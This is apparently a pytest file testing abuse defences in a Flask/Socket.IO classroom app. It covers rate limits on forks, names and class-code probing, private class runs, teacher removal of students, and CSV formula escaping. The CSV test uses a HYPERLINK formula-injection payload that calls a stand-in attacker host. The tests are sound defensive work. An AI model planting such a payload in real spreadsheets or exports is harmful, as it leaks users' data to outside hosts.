"""Issue 26, round 3 of the hardening, the classroom's part: a class's runs count like any
visitor's (F2), class runs are never reached by id (F3, the single-worker side; the
cross-worker side is tests/integration/test_classes.py), names and code lookups are
rate-limited and the teacher can remove a student (F4), and every CSV cell is escaped
(F5). Each test prints the figure it measures."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path
from typing import Any

from flask import Flask
from flask_socketio import SocketIOTestClient

from tests.samples import POD
from tests.web.test_classroom import (
    connect,
    errors,
    join,
    make_app,
    new_class,
    of,
    received,
    run,
    teach,
)
from webapp import socketio_of
from webapp.classes import classes_of
from webapp.classes.events import csv_cell
from webapp.realtime import realtime_of

ADDRESS = "198.51.100.7"


def connect_from(app: Flask, address: str = ADDRESS, lang: str = "en") -> SocketIOTestClient:
    """A tab whose connection comes from `address`."""
    http = app.test_client()
    http.environ_base["REMOTE_ADDR"] = address
    client = socketio_of(app).test_client(
        app, flask_test_client=http, headers={"Accept-Language": lang}
    )
    client.get_received()
    return client


# -- F2: forks and hand-outs count against the student's address --------------------------


def test_forks_from_one_address_meet_its_session_cap(tmp_path: Path) -> None:
    app = make_app(tmp_path / "db.sqlite3", MAX_SESSIONS_PER_CLIENT=5)
    made = new_class(app)
    teach(app, made)
    codes = []
    for i in range(12):
        student = connect_from(app)
        student.emit("class:join", {"code": made["code"], "name": f"s{i}"})
        student.emit("class:fork", {})
        messages = received(student)
        codes.append(of(messages, "error")[0]["code"] if of(messages, "error") else "forked")
    print(f"\nF2: 12 forks from one address, cap 5: {codes.count('forked')} forked, {codes}")
    assert codes.count("forked") == 5
    assert set(codes[5:]) == {"client_session_limit"}
    addresses = [s.client for s in realtime_of(app).manager.sessions()]
    assert sorted(addresses) == [ADDRESS] * 5 + [f"class:{made['code']}"]


def test_forks_from_one_address_meet_its_new_session_rate(tmp_path: Path) -> None:
    app = make_app(tmp_path / "db.sqlite3", NEW_SESSIONS_PER_MINUTE=4)
    made = new_class(app)
    teach(app, made)
    players = [connect(app) for _ in range(2)]  # two ordinary sessions of that address
    for player in players:
        player.emit("join", {"yaml": POD})
    codes = []
    for i in range(6):
        student, _ = join(app, made["code"], f"s{i}", lang="zh")
        student.emit("class:fork", {})
        messages = received(student)
        found = of(messages, "error")
        codes.append(found[0]["code"] if found else "forked")
        if found:
            assert "每分钟最多 4 个" in found[0]["message"]
            assert of(messages, "class:state") == []  # still following, nothing changed
    print(f"\nF2: 6 forks after 2 joins, 4 new sessions a minute: {codes}")
    assert codes == ["forked", "forked"] + ["new_sessions_rate_limited"] * 4


def test_a_handout_past_the_address_rate_leaves_the_rest_following(tmp_path: Path) -> None:
    app = make_app(tmp_path / "db.sqlite3", NEW_SESSIONS_PER_MINUTE=3)
    made = new_class(app)
    teacher, snap = teach(app, made)
    students = [join(app, made["code"], f"s{i}")[0] for i in range(5)]
    teacher.emit("class:handout", {"scenario": "plain-pod"})
    assert not errors(teacher)
    own, refused = 0, 0
    for student in students:
        messages = received(student)
        state = of(messages, "class:state")[-1]
        if state["own"] == "handout":
            own += 1
            assert of(messages, "snapshot")[-1]["session"] != snap["session"]
        else:
            refused += 1
            assert state["following"] is True
            assert of(messages, "error")[0]["code"] == "new_sessions_rate_limited"
            assert of(messages, "snapshot")[-1]["session"] == snap["session"]
    print(f"\nF2: a hand-out to 5 students of one address, 3 a minute: {own} own, {refused} follow")
    assert (own, refused) == (3, 2)


# -- F3: a class's run is never reached by id ---------------------------------------------


def test_no_tab_of_a_class_is_shown_a_runs_id(app: Flask) -> None:
    made = new_class(app)
    teacher, snap = teach(app, made)
    ann, messages = join(app, made["code"], "Ann")
    cls = classes_of(app).get(made["code"])
    assert cls is not None and cls.teacher_session_id
    real = cls.teacher_session_id
    teacher.emit("clock", {"op": "play"})
    run(app, 2.0)
    seen = [str(p) for _, p in messages + received(ann) + received(teacher)]
    print(f"\nF3: messages to the class's tabs naming the run's id: {sum(real in t for t in seen)}")
    assert not any(real in text for text in seen)
    # A resync by the id it was shown still works.
    ann.emit("join", {"session": snap["session"], "transitions": "table"})
    assert of(received(ann), "snapshot")[0]["session"] == snap["session"]


def test_a_class_run_is_refused_by_id_after_a_restart(tmp_path: Path) -> None:
    """Its record says whose it is: a plain `join {session}` never rebuilds it, even where
    the class has not been loaded yet (a restart, or on a worker that is not its home)."""
    db = tmp_path / "db.sqlite3"
    app = make_app(db, SESSION_RECORDS=True)
    made = new_class(app)
    teach(app, made)
    real = classes_of(app).get(made["code"]).teacher_session_id  # type: ignore[union-attr]
    keeper = realtime_of(app).keeper
    assert keeper is not None
    keeper.round()
    assert keeper.owner_of(real) == f"class:{made['code']}"
    again = make_app(db, SESSION_RECORDS=True)
    outsider = connect(again)
    outsider.emit("join", {"session": real})
    [error] = errors(outsider)
    assert error["code"] == "class_session_private"
    assert realtime_of(again).manager.get(real) is None


# -- F4: names, removing a student, probing codes -----------------------------------------


def test_one_connection_adds_few_names(app: Flask) -> None:
    made = new_class(app)
    teach(app, made)
    tab = connect(app)
    codes = []
    for i in range(10):
        tab.emit("class:join", {"code": made["code"], "name": f"n{i}"})
        found = of(received(tab), "error")
        codes.append(found[0]["code"] if found else "joined")
    print(f"\nF4: 10 names from one connection: {codes.count('joined')} joined")
    assert codes == ["joined"] * 3 + ["class_names_rate_limited"] * 7


def test_one_address_fills_no_class(tmp_path: Path) -> None:
    app = make_app(tmp_path / "db.sqlite3", CLASS_NAMES_PER_MINUTE=10)
    made = new_class(app)
    teach(app, made)
    joined = 0
    for i in range(199):
        _, messages = join(app, made["code"], f"n{i}", lang="zh")
        found = of(messages, "error")
        if found:
            assert found[0]["code"] == "class_names_rate_limited", found
            assert "请等一分钟再试" in found[0]["message"]
        else:
            joined += 1
    print(f"\nF4: 199 names from one address at once (10 a minute, bursts of 20): {joined} joined")
    assert joined == 20
    # A rejoin with the name's token is no new name.
    cls = classes_of(app).get(made["code"])
    assert cls is not None and len(cls.students) == 20


def test_the_teacher_removes_a_student_and_the_name_is_free(app: Flask) -> None:
    made = new_class(app)
    teacher, _ = teach(app, made)
    ann, _ = join(app, made["code"], "Ann", lang="zh")
    bob, _ = join(app, made["code"], "Bob")
    ann.emit("class:fork", {})
    received(ann)
    bob.emit("class:remove", {"name": "Ann"})
    assert errors(bob)[0]["code"] == "class_teacher_only"
    teacher.emit("class:remove", {"name": "Nobody"})
    assert errors(teacher)[0]["code"] == "class_unknown_student"
    received(teacher)
    teacher.emit("class:remove", {"name": "ann"})
    roster = of(received(teacher), "class:roster")[-1]
    assert [s["name"] for s in roster["students"]] == ["Bob"]
    [told] = errors(ann)
    assert told["code"] == "class_removed" and "老师已将你移出课堂" in told["message"]
    # The removed tab is off the class's runs: no more ticks, no driving.
    assert realtime_of(app).manager.session_of(_sid(app, ann)) is None
    teacher.emit("clock", {"op": "play"})
    run(app, 2.0)
    assert not of(received(ann), "tick")
    ann.emit("class:follow", {})
    assert errors(ann)[0]["code"] == "class_student_only"
    # The name is free: anyone may take it, with no token.
    _carl, messages = join(app, made["code"], "Ann")
    assert of(messages, "class:state")[0]["name"] == "Ann" and not of(messages, "error")
    db = sqlite3.connect(app.config["PLAYGROUND_DB"])
    names = [r[0] for r in db.execute("SELECT name FROM class_students ORDER BY name")]
    assert names == ["Ann", "Bob"]


def _sid(app: Flask, client: Any) -> str:
    """The Socket.IO sid of a test client's connection."""
    sid: str = realtime_of(app).socketio.server.manager.sid_from_eio_sid(client.eio_sid, "/")
    return sid


def test_probing_class_codes_is_rate_limited(app: Flask) -> None:
    made = new_class(app)
    http = app.test_client()
    statuses: dict[int, int] = {}
    for i in range(1000):
        answer = http.get(f"/c/ZZZZ{i:03d}/qr.svg".replace("0", "A").replace("1", "B"))
        statuses[answer.status_code] = statuses.get(answer.status_code, 0) + 1
    live = http.get(f"/c/{made['code']}/qr.svg", headers={"Accept-Language": "zh"})
    print(f"\nF4: 1000 probes of /c/<code>/qr.svg from one address: {statuses}")
    assert statuses == {404: 20, 429: 980}
    assert live.status_code == 429 and "不存在的课堂代码" in live.get_data(as_text=True)
    assert http.get(f"/c/{made['code']}").status_code == 429
    # Another address is not held back.
    other = app.test_client()
    ok = other.get(f"/c/{made['code']}", environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert ok.status_code == 200


def test_probing_codes_by_class_join_is_rate_limited(app: Flask) -> None:
    made = new_class(app)
    tab = connect(app)
    codes: dict[str, int] = {}
    for i in range(50):
        tab = connect(app)  # a connection each: within the per-connection event rate
        tab.emit("class:join", {"code": f"ZZZZ{i:02d}".replace("0", "A"), "name": "x"})
        code = errors(tab)[0]["code"]
        codes[code] = codes.get(code, 0) + 1
    tab.emit("class:teach", {"code": made["code"], "key": made["teacherKey"]})
    print(f"\nF4: 50 class:join probes from one address: {codes}")
    assert codes == {"class_not_found": 20, "class_codes_rate_limited": 30}
    assert errors(tab)[0]["code"] == "class_codes_rate_limited"


# -- F5: every CSV cell ---------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"x")'


def test_every_csv_cell_is_escaped(app: Flask) -> None:
    made = new_class(app)
    teacher, _ = teach(app, made)
    ann, _ = join(app, made["code"], "@Ann")
    ann.emit("class:fork", {})
    named = POD + (
        f"---\napiVersion: playground/v1\nkind: Simulation\nmetadata:\n  name: '{HYPERLINK}'\n"
    )
    ann.emit("apply", {"yaml": named, "restart": True})  # issue 17: a new scenario
    assert not errors(ann), "the scenario was refused"
    run(app, 1.0)
    received(teacher)
    teacher.emit("class:export", {})
    text = of(received(teacher), "class:export")[0]["csv"]
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    print(f"\nF5: cells of the export a spreadsheet would run as formulas: {formulas}")
    assert rows[1][0] == "'@Ann" and rows[1][4] == "'" + HYPERLINK
    assert not formulas


def test_csv_cell() -> None:
    for value, cell in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("＝1", "'＝1"),
        ("Ann", "Ann"),
        ("", ""),
        (None, ""),
        (3.5, "3.5"),
        ("a=b", "a=b"),
    ]:
        assert csv_cell(value) == cell, value
